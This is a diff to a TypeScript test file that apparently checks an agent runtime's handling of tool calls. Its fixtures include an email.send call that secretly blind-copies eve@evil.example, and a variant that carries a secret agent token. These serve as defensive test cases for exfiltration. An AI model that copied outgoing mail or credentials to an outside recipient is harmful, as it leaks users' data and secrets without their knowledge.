@@ -13,7 +13,7 @@ import { call, DECLS, SUPPORT_RULES } from "../runtime/fixtures.js";
 let dir: string;
 
 const LOOKUP = call("crm.lookup", 0, { session: "s1" });
-const MAIL = { ...call("email.send", 1000, { session: "s1" }), args: { to: ["bob@acme.com"], subject: "Refund", body: "Hi", bcc: ["eve@evil.example"] } };
+const MAIL: Record<string, unknown> = { ...call("email.send", 1000, { session: "s1" }), args: { to: ["bob@acme.com"], subject: "Refund", body: "Hi", bcc: ["eve@evil.example"] } };
 const SENDS_SECRETS = {
   ...MAIL,
   agent: { ...(MAIL["agent"] as object), token: "tok-SECRET-1" },
